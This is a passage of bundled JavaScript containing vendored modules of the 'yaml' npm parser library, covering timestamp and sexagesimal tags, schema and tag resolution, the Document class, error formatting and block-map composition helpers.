      const res = parts.replace(/_/g, "").split(":").reduce((res2, p) => res2 * num(60) + num(p), num(0));
      return sign === "-" ? num(-1) * res : res;
    }
    function stringifySexagesimal(node) {
      let { value } = node;
      let num = (n) => n;
      if (typeof value === "bigint")
        num = (n) => BigInt(n);
      else if (isNaN(value) || !isFinite(value))
        return stringifyNumber.stringifyNumber(node);
      let sign = "";
      if (value < 0) {
        sign = "-";
        value *= num(-1);
      }
      const _60 = num(60);
      const parts = [value % _60];
      if (value < 60) {
        parts.unshift(0);
      } else {
        value = (value - parts[0]) / _60;
        parts.unshift(value % _60);
        if (value >= 60) {
          value = (value - parts[0]) / _60;
          parts.unshift(value);
        }
      }
      return sign + parts.map((n) => String(n).padStart(2, "0")).join(":").replace(/000000\d*$/, "");
    }
    var intTime = {
      identify: (value) => typeof value === "bigint" || Number.isInteger(value),
      default: true,
      tag: "tag:yaml.org,2002:int",
      format: "TIME",
      test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+$/,
      resolve: (str3, _onError, { intAsBigInt }) => parseSexagesimal(str3, intAsBigInt),
      stringify: stringifySexagesimal
    };
    var floatTime = {
      identify: (value) => typeof value === "number",
      default: true,
      tag: "tag:yaml.org,2002:float",
      format: "TIME",
      test: /^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+\.[0-9_]*$/,
      resolve: (str3) => parseSexagesimal(str3, false),
      stringify: stringifySexagesimal
    };
    var timestamp = {
      identify: (value) => value instanceof Date,
      default: true,
      tag: "tag:yaml.org,2002:timestamp",
      // If the time zone is omitted, the timestamp is assumed to be specified in UTC. The time part
      // may be omitted altogether, resulting in a date format. In such a case, the time part is
      // assumed to be 00:00:00Z (start of day, UTC).
      test: RegExp("^([0-9]{4})-([0-9]{1,2})-([0-9]{1,2})(?:(?:t|T|[ \\t]+)([0-9]{1,2}):([0-9]{1,2}):([0-9]{1,2}(\\.[0-9]+)?)(?:[ \\t]*(Z|[-+][012]?[0-9](?::[0-9]{2})?))?)?$"),
      resolve(str3) {
        const match = str3.match(timestamp.test);
        if (!match)
          throw new Error("!!timestamp expects a date, starting with yyyy-mm-dd");
        const [, year, month, day, hour, minute, second] = match.map(Number);
        const millisec = match[7] ? Number((match[7] + "00").substr(1, 3)) : 0;
        let date = Date.UTC(year, month - 1, day, hour || 0, minute || 0, second || 0, millisec);
        const tz = match[8];
        if (tz && tz !== "Z") {
          let d = parseSexagesimal(tz, false);
          if (Math.abs(d) < 30)
            d *= 60;
          date -= 6e4 * d;
        }
        return new Date(date);
      },
      stringify: ({ value }) => value?.toISOString().replace(/(T00:00:00)?\.000Z$/, "") ?? ""
    };
    exports2.floatTime = floatTime;
    exports2.intTime = intTime;
    exports2.timestamp = timestamp;
  }
});

// node_modules/yaml/dist/schema/yaml-1.1/schema.js
var require_schema3 = __commonJS({
  "node_modules/yaml/dist/schema/yaml-1.1/schema.js"(exports2) {
    "use strict";
    var map = require_map();
    var _null = require_null();
    var seq = require_seq();
    var string = require_string();
    var binary2 = require_binary();
    var bool = require_bool2();
    var float = require_float2();
    var int = require_int2();
    var merge = require_merge();
    var omap = require_omap();
    var pairs = require_pairs();
    var set = require_set();
    var timestamp = require_timestamp();
    var schema = [
      map.map,
      seq.seq,
      string.string,
      _null.nullTag,
      bool.trueTag,
      bool.falseTag,
      int.intBin,
      int.intOct,
      int.int,
      int.intHex,
      float.floatNaN,
      float.floatExp,
      float.float,
      binary2.binary,
      merge.merge,
      omap.omap,
      pairs.pairs,
      set.set,
      timestamp.intTime,
      timestamp.floatTime,
      timestamp.timestamp
    ];
    exports2.schema = schema;
  }
});

// node_modules/yaml/dist/schema/tags.js
var require_tags = __commonJS({
  "node_modules/yaml/dist/schema/tags.js"(exports2) {
    "use strict";
    var map = require_map();
    var _null = require_null();
    var seq = require_seq();
    var string = require_string();
    var bool = require_bool();
    var float = require_float();
    var int = require_int();
    var schema = require_schema();
    var schema$1 = require_schema2();
    var binary2 = require_binary();
    var merge = require_merge();
    var omap = require_omap();
    var pairs = require_pairs();
    var schema$2 = require_schema3();
    var set = require_set();
    var timestamp = require_timestamp();
    var schemas = /* @__PURE__ */ new Map([
      ["core", schema.schema],
      ["failsafe", [map.map, seq.seq, string.string]],
      ["json", schema$1.schema],
      ["yaml11", schema$2.schema],
      ["yaml-1.1", schema$2.schema]
    ]);
    var tagsByName = {
      binary: binary2.binary,
      bool: bool.boolTag,
      float: float.float,
      floatExp: float.floatExp,
      floatNaN: float.floatNaN,
      floatTime: timestamp.floatTime,
      int: int.int,
      intHex: int.intHex,
      intOct: int.intOct,
      intTime: timestamp.intTime,
      map: map.map,
      merge: merge.merge,
      null: _null.nullTag,
      omap: omap.omap,
      pairs: pairs.pairs,
      seq: seq.seq,
      set: set.set,
      timestamp: timestamp.timestamp
    };
    var coreKnownTags = {
      "tag:yaml.org,2002:binary": binary2.binary,
      "tag:yaml.org,2002:merge": merge.merge,
      "tag:yaml.org,2002:omap": omap.omap,
      "tag:yaml.org,2002:pairs": pairs.pairs,
      "tag:yaml.org,2002:set": set.set,
      "tag:yaml.org,2002:timestamp": timestamp.timestamp
    };
    function getTags(customTags, schemaName, addMergeTag) {
      const schemaTags = schemas.get(schemaName);
      if (schemaTags && !customTags) {
        return addMergeTag && !schemaTags.includes(merge.merge) ? schemaTags.concat(merge.merge) : schemaTags.slice();
      }
      let tags = schemaTags;
      if (!tags) {
        if (Array.isArray(customTags))
          tags = [];
        else {
          const keys = Array.from(schemas.keys()).filter((key2) => key2 !== "yaml11").map((key2) => JSON.stringify(key2)).join(", ");
          throw new Error(`Unknown schema "${schemaName}"; use one of ${keys} or define customTags array`);
        }
      }
      if (Array.isArray(customTags)) {
        for (const tag of customTags)
          tags = tags.concat(tag);
      } else if (typeof customTags === "function") {
        tags = customTags(tags.slice());
      }
      if (addMergeTag)
        tags = tags.concat(merge.merge);
      return tags.reduce((tags2, tag) => {
        const tagObj = typeof tag === "string" ? tagsByName[tag] : tag;
        if (!tagObj) {
          const tagName = JSON.stringify(tag);
          const keys = Object.keys(tagsByName).map((key2) => JSON.stringify(key2)).join(", ");
          throw new Error(`Unknown custom tag ${tagName}; use one of ${keys}`);
        }
        if (!tags2.includes(tagObj))
          tags2.push(tagObj);
        return tags2;
      }, []);
    }
    exports2.coreKnownTags = coreKnownTags;
    exports2.getTags = getTags;
  }
});

// node_modules/yaml/dist/schema/Schema.js
var require_Schema = __commonJS({
  "node_modules/yaml/dist/schema/Schema.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var map = require_map();
    var seq = require_seq();
    var string = require_string();
    var tags = require_tags();
    var sortMapEntriesByKey = (a, b) => a.key < b.key ? -1 : a.key > b.key ? 1 : 0;
    var Schema = class _Schema {
      constructor({ compat, customTags, merge, resolveKnownTags, schema, sortMapEntries, toStringDefaults }) {
        this.compat = Array.isArray(compat) ? tags.getTags(compat, "compat") : compat ? tags.getTags(null, compat) : null;
        this.name = typeof schema === "string" && schema || "core";
        this.knownTags = resolveKnownTags ? tags.coreKnownTags : {};
        this.tags = tags.getTags(customTags, this.name, merge);
        this.toStringOptions = toStringDefaults ?? null;
        Object.defineProperty(this, identity.MAP, { value: map.map });
        Object.defineProperty(this, identity.SCALAR, { value: string.string });
        Object.defineProperty(this, identity.SEQ, { value: seq.seq });
        this.sortMapEntries = typeof sortMapEntries === "function" ? sortMapEntries : sortMapEntries === true ? sortMapEntriesByKey : null;
      }
      clone() {
        const copy = Object.create(_Schema.prototype, Object.getOwnPropertyDescriptors(this));
        copy.tags = this.tags.slice();
        return copy;
      }
    };
    exports2.Schema = Schema;
  }
});

// node_modules/yaml/dist/stringify/stringifyDocument.js
var require_stringifyDocument = __commonJS({
  "node_modules/yaml/dist/stringify/stringifyDocument.js"(exports2) {
    "use strict";
    var identity = require_identity();
    var stringify = require_stringify();
    var stringifyComment = require_stringifyComment();
    function stringifyDocument(doc, options) {
      const lines = [];
      let hasDirectives = options.directives === true;
      if (options.directives !== false && doc.directives) {
        const dir = doc.directives.toString(doc);
        if (dir) {
          lines.push(dir);
          hasDirectives = true;
        } else if (doc.directives.docStart)
          hasDirectives = true;
      }
      if (hasDirectives)
        lines.push("---");
      const ctx = stringify.createStringifyContext(doc, options);
      const { commentString } = ctx.options;
      if (doc.commentBefore) {
        if (lines.length !== 1)
          lines.unshift("");
        const cs = commentString(doc.commentBefore);
        lines.unshift(stringifyComment.indentComment(cs, ""));
      }
      let chompKeep = false;
      let contentComment = null;
      if (doc.contents) {
        if (identity.isNode(doc.contents)) {
          if (doc.contents.spaceBefore && hasDirectives)
            lines.push("");
          if (doc.contents.commentBefore) {
            const cs = commentString(doc.contents.commentBefore);
            lines.push(stringifyComment.indentComment(cs, ""));
          }
          ctx.forceBlockIndent = !!doc.comment;
          contentComment = doc.contents.comment;
        }
        const onChompKeep = contentComment ? void 0 : () => chompKeep = true;
        let body = stringify.stringify(doc.contents, ctx, () => contentComment = null, onChompKeep);
        if (contentComment)
          body += stringifyComment.lineComment(body, "", commentString(contentComment));
        if ((body[0] === "|" || body[0] === ">") && lines[lines.length - 1] === "---") {
          lines[lines.length - 1] = `--- ${body}`;
        } else
          lines.push(body);
      } else {
        lines.push(stringify.stringify(doc.contents, ctx));
      }
      if (doc.directives?.docEnd) {
        if (doc.comment) {
          const cs = commentString(doc.comment);
          if (cs.includes("\n")) {
            lines.push("...");
            lines.push(stringifyComment.indentComment(cs, ""));
          } else {
            lines.push(`... ${cs}`);
          }
        } else {
          lines.push("...");
        }
      } else {
        let dc = doc.comment;
        if (dc && chompKeep)
          dc = dc.replace(/^\n+/, "");
        if (dc) {
          if ((!chompKeep || contentComment) && lines[lines.length - 1] !== "")
            lines.push("");
          lines.push(stringifyComment.indentComment(commentString(dc), ""));
        }
      }
      return lines.join("\n") + "\n";
    }
    exports2.stringifyDocument = stringifyDocument;
  }
});

// node_modules/yaml/dist/doc/Document.js
var require_Document = __commonJS({
  "node_modules/yaml/dist/doc/Document.js"(exports2) {
    "use strict";
    var Alias = require_Alias();
    var Collection = require_Collection();
    var identity = require_identity();
    var Pair = require_Pair();
    var toJS = require_toJS();
    var Schema = require_Schema();
    var stringifyDocument = require_stringifyDocument();
    var anchors = require_anchors();
    var applyReviver = require_applyReviver();
    var createNode = require_createNode();
    var directives = require_directives();
    var Document = class _Document {
      constructor(value, replacer, options) {
        this.commentBefore = null;
        this.comment = null;
        this.errors = [];
        this.warnings = [];
        Object.defineProperty(this, identity.NODE_TYPE, { value: identity.DOC });
        let _replacer = null;
        if (typeof replacer === "function" || Array.isArray(replacer)) {
          _replacer = replacer;
        } else if (options === void 0 && replacer) {
          options = replacer;
          replacer = void 0;
        }
        const opt2 = Object.assign({
          intAsBigInt: false,
          keepSourceTokens: false,
          logLevel: "warn",
          prettyErrors: true,
          strict: true,
          stringKeys: false,
          uniqueKeys: true,
          version: "1.2"
        }, options);
        this.options = opt2;
        let { version } = opt2;
        if (options?._directives) {
          this.directives = options._directives.atDocument();
          if (this.directives.yaml.explicit)
            version = this.directives.yaml.version;
        } else
          this.directives = new directives.Directives({ version });
        this.setSchema(version, options);
        this.contents = value === void 0 ? null : this.createNode(value, _replacer, options);
      }
      /**
       * Create a deep copy of this Document and its contents.
       *
       * Custom Node values that inherit from `Object` still refer to their original instances.
       */
      clone() {
        const copy = Object.create(_Document.prototype, {
          [identity.NODE_TYPE]: { value: identity.DOC }
        });
        copy.commentBefore = this.commentBefore;
        copy.comment = this.comment;
        copy.errors = this.errors.slice();
        copy.warnings = this.warnings.slice();
        copy.options = Object.assign({}, this.options);
        if (this.directives)
          copy.directives = this.directives.clone();
        copy.schema = this.schema.clone();
        copy.contents = identity.isNode(this.contents) ? this.contents.clone(copy.schema) : this.contents;
        if (this.range)
          copy.range = this.range.slice();
        return copy;
      }
      /** Adds a value to the document. */
      add(value) {
        if (assertCollection(this.contents))
          this.contents.add(value);
      }
      /** Adds a value to the document. */
      addIn(path14, value) {
        if (assertCollection(this.contents))
          this.contents.addIn(path14, value);
      }
      /**
       * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
       *
       * If `node` already has an anchor, `name` is ignored.
       * Otherwise, the `node.anchor` value will be set to `name`,
       * or if an anchor with that name is already present in the document,
       * `name` will be used as a prefix for a new unique anchor.
       * If `name` is undefined, the generated anchor will use 'a' as a prefix.
       */
      createAlias(node, name) {
        if (!node.anchor) {
          const prev = anchors.anchorNames(this);
          node.anchor = // eslint-disable-next-line @typescript-eslint/prefer-nullish-coalescing
          !name || prev.has(name) ? anchors.findNewAnchor(name || "a", prev) : name;
        }
        return new Alias.Alias(node.anchor);
      }
      createNode(value, replacer, options) {
        let _replacer = void 0;
        if (typeof replacer === "function") {
          value = replacer.call({ "": value }, "", value);
          _replacer = replacer;
        } else if (Array.isArray(replacer)) {
          const keyToStr = (v) => typeof v === "number" || v instanceof String || v instanceof Number;
          const asStr = replacer.filter(keyToStr).map(String);
          if (asStr.length > 0)
            replacer = replacer.concat(asStr);
          _replacer = replacer;
        } else if (options === void 0 && replacer) {
          options = replacer;
          replacer = void 0;
        }
        const { aliasDuplicateObjects, anchorPrefix, flow, keepUndefined, onTagObj, tag } = options ?? {};
        const { onAnchor, setAnchors, sourceObjects } = anchors.createNodeAnchors(
          this,
          // eslint-disable-next-line @typescript-eslint/prefer-nullish-coalescing
          anchorPrefix || "a"
        );
        const ctx = {
          aliasDuplicateObjects: aliasDuplicateObjects ?? true,
          keepUndefined: keepUndefined ?? false,
          onAnchor,
          onTagObj,
          replacer: _replacer,
          schema: this.schema,
          sourceObjects
        };
        const node = createNode.createNode(value, tag, ctx);
        if (flow && identity.isCollection(node))
          node.flow = true;
        setAnchors();
        return node;
      }
      /**
       * Convert a key and a value into a `Pair` using the current schema,
       * recursively wrapping all values as `Scalar` or `Collection` nodes.
       */
      createPair(key2, value, options = {}) {
        const k = this.createNode(key2, null, options);
        const v = this.createNode(value, null, options);
        return new Pair.Pair(k, v);
      }
      /**
       * Removes a value from the document.
       * @returns `true` if the item was found and removed.
       */
      delete(key2) {
        return assertCollection(this.contents) ? this.contents.delete(key2) : false;
      }
      /**
       * Removes a value from the document.
       * @returns `true` if the item was found and removed.
       */
      deleteIn(path14) {
        if (Collection.isEmptyPath(path14)) {
          if (this.contents == null)
            return false;
          this.contents = null;
          return true;
        }
        return assertCollection(this.contents) ? this.contents.deleteIn(path14) : false;
      }
      /**
       * Returns item at `key`, or `undefined` if not found. By default unwraps
       * scalar values from their surrounding node; to disable set `keepScalar` to
       * `true` (collections are always returned intact).
       */
      get(key2, keepScalar) {
        return identity.isCollection(this.contents) ? this.contents.get(key2, keepScalar) : void 0;
      }
      /**
       * Returns item at `path`, or `undefined` if not found. By default unwraps
       * scalar values from their surrounding node; to disable set `keepScalar` to
       * `true` (collections are always returned intact).
       */
      getIn(path14, keepScalar) {
        if (Collection.isEmptyPath(path14))
          return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
        return identity.isCollection(this.contents) ? this.contents.getIn(path14, keepScalar) : void 0;
      }
      /**
       * Checks if the document includes a value with the key `key`.
       */
      has(key2) {
        return identity.isCollection(this.contents) ? this.contents.has(key2) : false;
      }
      /**
       * Checks if the document includes a value at `path`.
       */
      hasIn(path14) {
        if (Collection.isEmptyPath(path14))
          return this.contents !== void 0;
        return identity.isCollection(this.contents) ? this.contents.hasIn(path14) : false;
      }
      /**
       * Sets a value in this document. For `!!set`, `value` needs to be a
       * boolean to add/remove the item from the set.
       */
      set(key2, value) {
        if (this.contents == null) {
          this.contents = Collection.collectionFromPath(this.schema, [key2], value);
        } else if (assertCollection(this.contents)) {
          this.contents.set(key2, value);
        }
      }
      /**
       * Sets a value in this document. For `!!set`, `value` needs to be a
       * boolean to add/remove the item from the set.
       */
      setIn(path14, value) {
        if (Collection.isEmptyPath(path14)) {
          this.contents = value;
        } else if (this.contents == null) {
          this.contents = Collection.collectionFromPath(this.schema, Array.from(path14), value);
        } else if (assertCollection(this.contents)) {
          this.contents.setIn(path14, value);
        }
      }
      /**
       * Change the YAML version and schema used by the document.
       * A `null` version disables support for directives, explicit tags, anchors, and aliases.
       * It also requires the `schema` option to be given as a `Schema` instance value.
       *
       * Overrides all previously set schema options.
       */
      setSchema(version, options = {}) {
        if (typeof version === "number")
          version = String(version);
        let opt2;
        switch (version) {
          case "1.1":
            if (this.directives)
              this.directives.yaml.version = "1.1";
            else
              this.directives = new directives.Directives({ version: "1.1" });
            opt2 = { resolveKnownTags: false, schema: "yaml-1.1" };
            break;
          case "1.2":
          case "next":
            if (this.directives)
              this.directives.yaml.version = version;
            else
              this.directives = new directives.Directives({ version });
            opt2 = { resolveKnownTags: true, schema: "core" };
            break;
          case null:
            if (this.directives)
              delete this.directives;
            opt2 = null;
            break;
          default: {
            const sv = JSON.stringify(version);
            throw new Error(`Expected '1.1', '1.2' or null as first argument, but found: ${sv}`);
          }
        }
        if (options.schema instanceof Object)
          this.schema = options.schema;
        else if (opt2)
          this.schema = new Schema.Schema(Object.assign(opt2, options));
        else
          throw new Error(`With a null YAML version, the { schema: Schema } option is required`);
      }
      // json & jsonArg are only used from toJSON()
      toJS({ json, jsonArg, mapAsMap, maxAliasCount, onAnchor, reviver } = {}) {
        const ctx = {
          anchors: /* @__PURE__ */ new Map(),
          doc: this,
          keep: !json,
          mapAsMap: mapAsMap === true,
          mapKeyWarned: false,
          maxAliasCount: typeof maxAliasCount === "number" ? maxAliasCount : 100
        };
        const res = toJS.toJS(this.contents, jsonArg ?? "", ctx);
        if (typeof onAnchor === "function")
          for (const { count, res: res2 } of ctx.anchors.values())
            onAnchor(res2, count);
        return typeof reviver === "function" ? applyReviver.applyReviver(reviver, { "": res }, "", res) : res;
      }
      /**
       * A JSON representation of the document `contents`.
       *
       * @param jsonArg Used by `JSON.stringify` to indicate the array index or
       *   property name.
       */
      toJSON(jsonArg, onAnchor) {
        return this.toJS({ json: true, jsonArg, mapAsMap: false, onAnchor });
      }
      /** A YAML representation of the document. */
      toString(options = {}) {
        if (this.errors.length > 0)
          throw new Error("Document with errors cannot be stringified");
        if ("indent" in options && (!Number.isInteger(options.indent) || Number(options.indent) <= 0)) {
          const s = JSON.stringify(options.indent);
          throw new Error(`"indent" option must be a positive integer, not ${s}`);
        }
        return stringifyDocument.stringifyDocument(this, options);
      }
    };
    function assertCollection(contents) {
      if (identity.isCollection(contents))
        return true;
      throw new Error("Expected a YAML collection as document contents");
    }
    exports2.Document = Document;
  }
});

// node_modules/yaml/dist/errors.js
var require_errors = __commonJS({
  "node_modules/yaml/dist/errors.js"(exports2) {
    "use strict";
    var YAMLError = class extends Error {
      constructor(name, pos, code3, message) {
        super();
        this.name = name;
        this.code = code3;
        this.message = message;
        this.pos = pos;
      }
    };
    var YAMLParseError = class extends YAMLError {
      constructor(pos, code3, message) {
        super("YAMLParseError", pos, code3, message);
      }
    };
    var YAMLWarning = class extends YAMLError {
      constructor(pos, code3, message) {
        super("YAMLWarning", pos, code3, message);
      }
    };
    var prettifyError = (src, lc) => (error) => {
      if (error.pos[0] === -1)
        return;
      error.linePos = error.pos.map((pos) => lc.linePos(pos));
      const { line, col } = error.linePos[0];
      error.message += ` at line ${line}, column ${col}`;
      let ci = col - 1;
      let lineStr = src.substring(lc.lineStarts[line - 1], lc.lineStarts[line]).replace(/[\n\r]+$/, "");
      if (ci >= 60 && lineStr.length > 80) {
        const trimStart = Math.min(ci - 39, lineStr.length - 79);
        lineStr = "\u2026" + lineStr.substring(trimStart);
        ci -= trimStart - 1;
      }
      if (lineStr.length > 80)
        lineStr = lineStr.substring(0, 79) + "\u2026";
      if (line > 1 && /^ *$/.test(lineStr.substring(0, ci))) {
        let prev = src.substring(lc.lineStarts[line - 2], lc.lineStarts[line - 1]);
        if (prev.length > 80)
          prev = prev.substring(0, 79) + "\u2026\n";
        lineStr = prev + lineStr;
      }
      if (/[^ ]/.test(lineStr)) {
        let count = 1;
        const end = error.linePos[1];
        if (end?.line === line && end.col > col) {
          count = Math.max(1, Math.min(end.col - col, 80 - ci));
        }
        const pointer = " ".repeat(ci) + "^".repeat(count);
        error.message += `:

${lineStr}
${pointer}
`;
      }
    };
    exports2.YAMLError = YAMLError;
    exports2.YAMLParseError = YAMLParseError;
    exports2.YAMLWarning = YAMLWarning;
    exports2.prettifyError = prettifyError;
  }
});

// node_modules/yaml/dist/compose/resolve-props.js
var require_resolve_props = __commonJS({
  "node_modules/yaml/dist/compose/resolve-props.js"(exports2) {
    "use strict";
    function resolveProps(tokens, { flow, indicator, next, offset, onError, parentIndent, startOnNewline }) {
      let spaceBefore = false;
      let atNewline = startOnNewline;
      let hasSpace = startOnNewline;
      let comment = "";
      let commentSep = "";
      let hasNewline = false;
      let reqSpace = false;
      let tab = null;
      let anchor = null;
      let tag = null;
      let newlineAfterProp = null;
      let comma = null;
      let found = null;
      let start = null;
      for (const token of tokens) {
        if (reqSpace) {
          if (token.type !== "space" && token.type !== "newline" && token.type !== "comma")
            onError(token.offset, "MISSING_CHAR", "Tags and anchors must be separated from the next token by white space");
          reqSpace = false;
        }
        if (tab) {
          if (atNewline && token.type !== "comment" && token.type !== "newline") {
            onError(tab, "TAB_AS_INDENT", "Tabs are not allowed as indentation");
          }
          tab = null;
        }
        switch (token.type) {
          case "space":
            if (!flow && (indicator !== "doc-start" || next?.type !== "flow-collection") && token.source.includes("	")) {
              tab = token;
            }
            hasSpace = true;
            break;
          case "comment": {
            if (!hasSpace)
              onError(token, "MISSING_CHAR", "Comments must be separated from other tokens by white space characters");
            const cb = token.source.substring(1) || " ";
            if (!comment)
              comment = cb;
            else
              comment += commentSep + cb;
            commentSep = "";
            atNewline = false;
            break;
          }
          case "newline":
            if (atNewline) {
              if (comment)
                comment += token.source;
              else if (!found || indicator !== "seq-item-ind")
                spaceBefore = true;
            } else
              commentSep += token.source;
            atNewline = true;
            hasNewline = true;
            if (anchor || tag)
              newlineAfterProp = token;
            hasSpace = true;
            break;
          case "anchor":
            if (anchor)
              onError(token, "MULTIPLE_ANCHORS", "A node can have at most one anchor");
            if (token.source.endsWith(":"))
              onError(token.offset + token.source.length - 1, "BAD_ALIAS", "Anchor ending in : is ambiguous", true);
            anchor = token;
            start ?? (start = token.offset);
            atNewline = false;
            hasSpace = false;
            reqSpace = true;
            break;
          case "tag": {
            if (tag)
              onError(token, "MULTIPLE_TAGS", "A node can have at most one tag");
            tag = token;
            start ?? (start = token.offset);
            atNewline = false;
            hasSpace = false;
            reqSpace = true;
            break;
          }
          case indicator:
            if (anchor || tag)
              onError(token, "BAD_PROP_ORDER", `Anchors and tags must be after the ${token.source} indicator`);
            if (found)
              onError(token, "UNEXPECTED_TOKEN", `Unexpected ${token.source} in ${flow ?? "collection"}`);
            found = token;
            atNewline = indicator === "seq-item-ind" || indicator === "explicit-key-ind";
            hasSpace = false;
            break;
          case "comma":
            if (flow) {
              if (comma)
                onError(token, "UNEXPECTED_TOKEN", `Unexpected , in ${flow}`);
              comma = token;
              atNewline = false;
              hasSpace = false;
              break;
            }
          // else fallthrough
          default:
            onError(token, "UNEXPECTED_TOKEN", `Unexpected ${token.type} token`);
            atNewline = false;
            hasSpace = false;
        }
      }
      const last = tokens[tokens.length - 1];
      const end = last ? last.offset + last.source.length : offset;
      if (reqSpace && next && next.type !== "space" && next.type !== "newline" && next.type !== "comma" && (next.type !== "scalar" || next.source !== "")) {
        onError(next.offset, "MISSING_CHAR", "Tags and anchors must be separated from the next token by white space");
      }
      if (tab && (atNewline && tab.indent <= parentIndent || next?.type === "block-map" || next?.type === "block-seq"))
        onError(tab, "TAB_AS_INDENT", "Tabs are not allowed as indentation");
      return {
        comma,
        found,
        spaceBefore,
        comment,
        hasNewline,
        anchor,
        tag,
        newlineAfterProp,
        end,
        start: start ?? end
      };
    }
    exports2.resolveProps = resolveProps;
  }
});

// node_modules/yaml/dist/compose/util-contains-newline.js
var require_util_contains_newline = __commonJS({
  "node_modules/yaml/dist/compose/util-contains-newline.js"(exports2) {
    "use strict";
    function containsNewline(key2) {
      if (!key2)
        return null;
      switch (key2.type) {
        case "alias":
        case "scalar":
        case "double-quoted-scalar":
        case "single-quoted-scalar":
          if (key2.source.includes("\n"))
            return true;
          if (key2.end) {
            for (const st of key2.end)
              if (st.type === "newline")
                return true;
          }
          return false;
        case "flow-collection":
          for (const it of key2.items) {
            for (const st of it.start)
              if (st.type === "newline")
                return true;
            if (it.sep) {
              for (const st of it.sep)
                if (st.type === "newline")
                  return true;
            }
            if (containsNewline(it.key) || containsNewline(it.value))
              return true;
          }
          return false;
        default:
          return true;
      }
    }
    exports2.containsNewline = containsNewline;
  }
});

// node_modules/yaml/dist/compose/util-flow-indent-check.js
var require_util_flow_indent_check = __commonJS({
  "node_modules/yaml/dist/compose/util-flow-indent-check.js"(exports2) {
    "use strict";
    var utilContainsNewline = require_util_contains_newline();
    function flowIndentCheck(indent, fc, onError) {
      if (fc?.type === "flow-collection") {
        const end = fc.end[0];
        if (end.indent === indent && (end.source === "]" || end.source === "}") && utilContainsNewline.containsNewline(fc)) {
          const msg = "Flow end indicator should be more indented than parent";
          onError(end, "BAD_INDENT", msg, true);
        }
      }
    }
    exports2.flowIndentCheck = flowIndentCheck;
  }
});

// node_modules/yaml/dist/compose/util-map-includes.js
var require_util_map_includes = __commonJS({
  "node_modules/yaml/dist/compose/util-map-includes.js"(exports2) {
    "use strict";
    var identity = require_identity();
    function mapIncludes(ctx, items, search) {
      const { uniqueKeys } = ctx.options;
      if (uniqueKeys === false)
        return false;
      const isEqual = typeof uniqueKeys === "function" ? uniqueKeys : (a, b) => a === b || identity.isScalar(a) && identity.isScalar(b) && a.value === b.value;
      return items.some((pair) => isEqual(pair.key, search));
    }
    exports2.mapIncludes = mapIncludes;
  }
});

// node_modules/yaml/dist/compose/resolve-block-map.js
var require_resolve_block_map = __commonJS({
  "node_modules/yaml/dist/compose/resolve-block-map.js"(exports2) {
    "use strict";
    var Pair = require_Pair();
    var YAMLMap = require_YAMLMap();
    var resolveProps = require_resolve_props();
    var utilContainsNewline = require_util_contains_newline();
    var utilFlowIndentCheck = require_util_flow_indent_check();
    var utilMapIncludes = require_util_map_includes();
    var startColMsg = "All mapping items must start at the same column";
    function resolveBlockMap({ composeNode, composeEmptyNode }, ctx, bm, onError, tag) {
      const NodeClass = tag?.nodeClass ?? YAMLMap.YAMLMap;
      const map = new NodeClass(ctx.schema);
      if (ctx.atRoot)
        ctx.atRoot = false;
      let offset = bm.offset;
      let commentEnd = null;
      for (const collItem of bm.items) {
        const { start, key: key2, sep, value } = collItem;
        const keyProps = resolveProps.resolveProps(start, {
          indicator: "explicit-key-ind",
          next: key2 ?? sep?.[0],
          offset,
          onError,
          parentIndent: bm.indent,
          startOnNewline: true
        });
        const implicitKey = !keyProps.found;
        if (implicitKey) {
          if (key2) {
            if (key2.type === "block-seq")
              onError(offset, "BLOCK_AS_IMPLICIT_KEY", "A block sequence may not be used as an implicit map key");
            else if ("indent" in key2 && key2.indent !== bm.indent)
              onError(offset, "BAD_INDENT", startColMsg);
          }
          if (!keyProps.anchor && !keyProps.tag && !sep) {
            commentEnd = keyProps.end;
            if (keyProps.comment) {
              if (map.comment)
                map.comment += "\n" + keyProps.comment;
              else
                map.comment = keyProps.comment;
            }
            continue;
          }
          if (keyProps.newlineAfterProp || utilContainsNewline.containsNewline(key2)) {
            onError(key2 ?? start[start.length - 1], "MULTILINE_IMPLICIT_KEY", "Implicit keys need to be on a single line");
          }
        } else if (keyProps.found?.indent !== bm.indent) {
          onError(offset, "BAD_INDENT", startColMsg);
        }
        ctx.atKey = true;
        const keyStart = keyProps.end;
        const keyNode = key2 ? composeNode(ctx, key2, keyProps, onError) : composeEmptyNode(ctx, keyStart, start, null, keyProps, onError);
        if (ctx.schema.compat)
          utilFlowIndentCheck.flowIndentCheck(bm.indent, key2, onError);
        ctx.atKey = false;
        if (utilMapIncludes.mapIncludes(ctx, map.items, keyNode))
          onError(keyStart, "DUPLICATE_KEY", "Map keys must be unique");
        const valueProps = resolveProps.resolveProps(sep ?? [], {
          indicator: "map-value-ind",
          next: value,
          offset: keyNode.range[2],
          onError,
          parentIndent: bm.indent,
          startOnNewline: !key2 || key2.type === "block-scalar"
        });
        offset = valueProps.end;
        if (valueProps.found) {
          if (implicitKey) {
            if (value?.type === "block-map" && !valueProps.hasNewline)
              onError(offset, "BLOCK_AS_IMPLICIT_KEY", "Nested mappings are not allowed in compact mappings");
            if (ctx.options.strict && keyProps.start < valueProps.found.offset - 1024)
              onError(keyNode.range, "KEY_OVER_1024_CHARS", "The : indicator must be at most 1024 chars after the start of an implicit block mapping key");
          }
          const valueNode = value ? composeNode(ctx, value, valueProps, onError) : composeEmptyNode(ctx, offset, sep, null, valueProps, onError);
          if (ctx.schema.compat)
            utilFlowIndentCheck.flowIndentCheck(bm.indent, value, onError);
          offset = valueNode.range[2];
          const pair = new Pair.Pair(keyNode, valueNode);
          if (ctx.options.keepSourceTokens)
            pair.srcToken = collItem;
          map.items.push(pair);
        } else {
          if (implicitKey)
            onError(keyNode.range, "MISSING_CHAR", "Implicit map keys need to be followed by map values");
          if (valueProps.comment) {
            if (keyNode.comment)
              keyNode.comment += "\n" + valueProps.comment;
            else
              keyNode.comment = valueProps.comment;
          }
          const pair = new Pair.Pair(keyNode);
          if (ctx.options.keepSourceTokens)
            pair.srcToken = collItem;
          map.items.push(pair);
        }
      }
      if (commentEnd && commentEnd < offset)
        onError(commentEnd, "IMPOSSIBLE", "Map comment with trailing content");
      map.range = [bm.offset, offset, commentEnd ?? offset];
      return map;
    }
    exports2.resolveBlockMap = resolveBlockMap;
  }
});

// node_modules/yaml/dist/compose/resolve-block-seq.js
var require_resolve_block_seq = __commonJS({
